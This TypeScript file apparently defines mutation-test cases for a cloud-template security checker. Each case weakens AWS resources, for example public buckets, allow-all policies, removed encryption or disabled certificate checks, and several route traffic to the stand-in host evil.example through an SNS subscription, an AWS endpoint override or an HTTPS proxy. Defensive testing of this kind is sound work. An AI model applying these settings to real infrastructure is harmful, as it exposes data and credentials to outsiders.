import { mutantsOf } from './mutant';
import type { Value } from '../fences/templates/value';
import type { Mutant, Plant } from './mutant';
import { change } from './planting';
import type { Edits } from './planting';
import * as at from './spots';

/** Properties that nobody classed, and such as protect taken out or weakened after everybody has looked at the construct. */

const inDatabase = (edits: Edits): Plant => change(at.DATABASE, edits);
const inBucket = (edits: Edits): Plant => change(at.FILES, edits);
const inHook = (edits: Edits): Plant => change(at.HOOK, edits);
const inTask = (name: string, value: Value): Plant => change(at.EXPORT_TASK, { [`ContainerDefinitions/0/${name}`]: value });
const ANYBODY = { Statement: [{ Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' }] };
const GROUP = { type: 'AWS::EC2::SecurityGroup', stack: at.FRONT_DOOR };
const PARAMETERS = { type: 'AWS::RDS::DBParameterGroup', stack: at.NETWORK };
const RECORDER = { type: 'AWS::Config::ConfigurationRecorder', stack: at.WATCH };
const TOPIC = { type: 'AWS::SNS::Topic', stack: at.WATCH };
const ATTRIBUTES = 'LoadBalancerAttributes';

export const PROPERTIES_UNCLASSED: readonly Mutant[] = mutantsOf('every-property-is-classed', {
  'secret-replicated': ['a secret is copied to another region', change(at.SECRET, { ReplicaRegions: [{ Region: 'ap-south-2' }] })],
  'table-streams-with-a-policy': [
    'a table has a stream that anybody may read',
    change(at.TABLE, { StreamSpecification: { StreamViewType: 'NEW_IMAGE', ResourcePolicy: { PolicyDocument: ANYBODY } } }),
  ],
  'log-with-a-policy': ['a log group has a policy of its own', change(at.DATABASE_LOG, { ResourcePolicyDocument: ANYBODY })],
  'topic-with-subscriptions': [
    'a topic subscribes somebody itself',
    change(TOPIC, { Subscription: [{ Protocol: 'https', Endpoint: 'https://evil.example' }] }),
  ],
  'table-imported': [
    'a table begins with what lies in a bucket',
    change(at.TABLE, { ImportSourceSpecification: { InputFormat: 'CSV' } }),
  ],
  'table-to-kinesis': ['a table is streamed away', change(at.TABLE, { KinesisStreamSpecification: { StreamArn: 'stream' } })],
  'bucket-as-website': ['a bucket is a website', inBucket({ WebsiteConfiguration: { IndexDocument: 'index.html' } })],
  'bucket-with-an-acl': ['a bucket is open by its ACL', inBucket({ AccessControl: 'PublicRead' })],
  'bucket-inventory': [
    'lists of what a bucket holds are written elsewhere',
    inBucket({ InventoryConfigurations: [{ Id: 'all', Destination: { BucketArn: 'bucket', Format: 'CSV' } }] }),
  ],
  'bucket-rule-by-size': ['objects of a size are deleted', inBucket({ 'LifecycleConfiguration/Rules/0/ObjectSizeGreaterThan': 1 })],
  'database-begins-as-a-cluster': [
    'a database begins as a copy of a cluster',
    inDatabase({ DBClusterSnapshotIdentifier: 'snapshot' }),
  ],
  'database-with-a-password': ['a database has a password that a template knows', inDatabase({ MasterUserPassword: 'x' })],
  'database-that-reads-buckets': [
    'a database may read what a role may',
    inDatabase({ AssociatedRoles: [{ RoleArn: 'r', FeatureName: 's3Import' }] }),
  ],
  'hook-with-a-disk': ['a hook mounts a disk', inHook({ FileSystemConfigs: [{ Arn: 'fs', LocalMountPath: '/mnt/fs' }] })],
  'hook-without-recursion-guard': ['a hook may call itself for ever', inHook({ RecursiveLoop: 'Allow' })],
  'hook-code-inline': ['a hook runs what stands in the template', inHook({ 'Code/ZipFile': 'exports.handler = () => {}' })],
  'task-with-variable-files': ['the task takes variables from a file', inTask('EnvironmentFiles', [{ Type: 's3', Value: 'f' }])],
  'task-with-secrets': ['the task has secrets put into its variables', inTask('Secrets', [{ Name: 'X', ValueFrom: 'arn' }])],
  'task-as-another-host': [
    'the task calls another host by the name of ours',
    inTask('ExtraHosts', [{ Hostname: 'h', IpAddress: 'i' }]),
  ],
  'group-lets-in-by-ipv6': [
    'a security group lets in the other internet',
    change(GROUP, { 'SecurityGroupIngress/0/CidrIpv6': '::/0' }),
  ],
  'role-that-brings-policies': ['a role brings policies along', change(at.ACCESS_ROLE, { Policies: [] })],
  'key-without-safety-check': ['a key may be locked for ever', change(at.DATA_KEY, { BypassPolicyLockoutSafetyCheck: true })],
  'trail-with-insights-elsewhere': ['a trail selects events in another way', change(at.FILES_TRAIL, { EventSelectors: [] })],
  'stream-processed': [
    'what goes to the SIEM is changed on the way',
    change(at.STREAM, { 'HttpEndpointDestinationConfiguration/ProcessingConfiguration': { Enabled: true } }),
  ],
  'door-attribute-unknown': [
    'the load balancer has an attribute that nobody classed',
    change(at.BALANCER, { [`${ATTRIBUTES}/-`]: { Key: 'routing.http.preserve_host_header.enabled', Value: 'true' } }),
  ],
  'parameter-unknown': [
    'the database has a parameter that nobody classed',
    change(PARAMETERS, { 'Parameters/rds.accepted_password_auth_method': 'md5+scram' }),
  ],
  'waits-for-a-signal': ['a resource is made when somebody signals', inDatabase({ '/CreationPolicy': { ResourceSignal: {} } })],
});

const NOTHING = undefined;
export const PROTECTION_TAKEN: readonly Mutant[] = mutantsOf('protection-stands-in-the-template', {
  'public-access-block-deleted': ['the block of public access is taken out', inBucket({ PublicAccessBlockConfiguration: NOTHING })],
  'public-policy-let-in': [
    'one of four blocks is taken out',
    inBucket({ 'PublicAccessBlockConfiguration/BlockPublicPolicy': NOTHING }),
  ],
  'versioning-suspended': ['a bucket forgets versions', inBucket({ 'VersioningConfiguration/Status': 'Suspended' })],
  'backup-cut-off': [
    'a backup is cancelled in the very hour in which it may begin',
    change(at.PLAN, { 'BackupPlan/BackupPlanRule/0/CompletionWindowMinutes': 60 }),
  ],
  'table-recovery-deleted': ['a table cannot be set back', change(at.TABLE, { PointInTimeRecoverySpecification: NOTHING })],
  'table-key-deleted': ["a table is under DynamoDB's own key", change(at.TABLE, { SSESpecification: NOTHING })],
  'storage-encryption-deleted': ['the encryption of a database is taken out', inDatabase({ StorageEncrypted: NOTHING })],
  'login-by-role-deleted': ['logins by role are off', inDatabase({ EnableIAMDatabaseAuthentication: false })],
  'old-tls-for-databases': ['databases take TLS 1.1', change(PARAMETERS, { 'Parameters/ssl_min_protocol_version': 'TLSv1.1' })],
  'passwords-in-md5': ['passwords are kept as MD5', change(PARAMETERS, { 'Parameters/password_encryption': 'md5' })],
  'recorded-once-a-day': ['the recorder looks once a day', change(RECORDER, { 'RecordingMode/RecordingFrequency': 'DAILY' })],
  'recorder-mode-deleted': ['how often the recorder looks is left to AWS', change(RECORDER, { RecordingMode: NOTHING })],
  'letters-kept-a-minute': [
    'what a hook failed at is kept for a minute',
    change({ type: 'AWS::SQS::Queue', stack: at.WATCH }, { MessageRetentionPeriod: 60 }),
  ],
  'locks-wait-for-ever': ['a lock in a database is waited for without end', change(PARAMETERS, { 'Parameters/lock_timeout': '0' })],
  'slow-statements-unseen': [
    'only statements of a day are slow',
    change(PARAMETERS, { 'Parameters/log_min_duration_statement': '86400000' }),
  ],
  'data-key-for-a-day': [
    'a machine uses one key for a day',
    change(at.EXPORT_MACHINE, { 'EncryptionConfiguration/KmsDataKeyReusePeriodSeconds': 86_400 }),
  ],
  'queue-key-deleted': [
    "a queue is under SQS's own key",
    change({ type: 'AWS::SQS::Queue', stack: at.WATCH }, { KmsMasterKeyId: NOTHING }),
  ],
  'records-key-of-another-use': [
    'the key of records agrees on secrets, and signs nothing',
    change(at.RECORDS_KEY, { KeyUsage: 'KEY_AGREEMENT' }),
  ],
  'records-key-of-another-kind': [
    'the key of records signs by RSA, which no reader of records takes',
    change(at.RECORDS_KEY, { KeySpec: 'RSA_2048' }),
  ],
  'topic-key-deleted': ['a topic is in the clear', change(TOPIC, { KmsMasterKeyId: NOTHING })],
  'log-key-deleted': ["a log is under CloudWatch's own key", change(at.DATABASE_LOG, { KmsKeyId: NOTHING })],
  'boundary-deleted': ['a role has no boundary', change(at.ACCESS_ROLE, { PermissionsBoundary: NOTHING })],
  'hook-key-deleted': ["a hook's variables are under Lambda's own key", inHook({ KmsKeyArn: NOTHING })],
  'dead-letters-deleted': ['what a hook fails at is lost', inHook({ DeadLetterConfig: NOTHING })],
  'hook-of-another-runtime': ['a hook runs on what is out of support', inHook({ Runtime: 'nodejs16.x' })],
  'firewall-fails-open': [
    'requests pass when the firewall does not answer',
    change(at.BALANCER, { [`${ATTRIBUTES}/[Key=waf.fail_open.enabled]/Value`]: 'true' }),
  ],
  'door-log-attribute-deleted': [
    'the load balancer writes no log, since nothing asks for it',
    change(at.BALANCER, { [`${ATTRIBUTES}/[Key=access_logs.s3.enabled]`]: NOTHING }),
  ],
  'trail-validation-deleted': [
    'files of a trail can be changed unseen',
    change(at.ACCOUNT_TRAIL, { EnableLogFileValidation: NOTHING }),
  ],
  'detector-feature-off': [
    'the detector does not look at databases',
    change(at.DETECTOR, { 'Features/[Name=RDS_LOGIN_EVENTS]/Status': 'DISABLED' }),
  ],
});

const variable = (name: string, value: Value): Plant => inHook({ [`Environment/Variables/${name}`]: value });
export const VARIABLES: readonly Mutant[] = mutantsOf('variables-are-those-of-the-contract', {
  'certificates-unchecked': ['a hook takes any certificate', variable('NODE_TLS_REJECT_UNAUTHORIZED', '0')],
  'code-loaded-first': ['a hook loads code before its own', variable('NODE_OPTIONS', '--require /opt/first.js')],
  'database-in-the-clear': ['a hook talks to databases in the clear', variable('PGSSLMODE', 'disable')],
  'wrapped-runtime': ['a hook is started by a program of a layer', variable('AWS_LAMBDA_EXEC_WRAPPER', '/opt/wrapper')],
  'endpoint-of-somebody': ["a hook's calls to AWS go to somebody else", variable('AWS_ENDPOINT_URL', 'https://evil.example')],
  'proxy-of-somebody': ["a hook's calls go through somebody", variable('HTTPS_PROXY', 'http://evil.example:3128')],
  'logs-every-event': ['a hook logs what it is given', variable('POWERTOOLS_LOGGER_LOG_EVENT', 'true')],
  'contract-variable-left-out': ['a hook lacks what its contract names', inHook({ 'Environment/Variables/MAX_AGE_DAYS': NOTHING })],
  'counts-for-another': ["a hook counts under another hook's name", variable('POWERTOOLS_SERVICE_NAME', 'write-heartbeat')],
  'task-certificates-unchecked': [
    'large exports take any certificate',
    change(at.EXPORT_TASK, { 'ContainerDefinitions/0/Environment/-': { Name: 'NODE_TLS_REJECT_UNAUTHORIZED', Value: '0' } }),
  ],
  'task-debugged': [
    'large exports can be debugged from outside',
    change(at.EXPORT_TASK, { 'ContainerDefinitions/0/Environment/-': { Name: 'NODE_OPTIONS', Value: '--inspect=0.0.0.0' } }),
  ],
  'task-overridden': [
    'the machine hands the task a variable of its own',
    change(at.EXPORT_MACHINE, {
      DefinitionString: (old: Value) =>
        JSON.parse(JSON.stringify(old).replace('\\"Name\\":\\"ORDER\\"', '\\"Name\\":\\"NODE_OPTIONS\\"')) as Value,
    }),
  ],
  'function-of-nobody': ['a function is no hook of the product', inHook({ FunctionName: 'softdocket-production-helper' })],
});
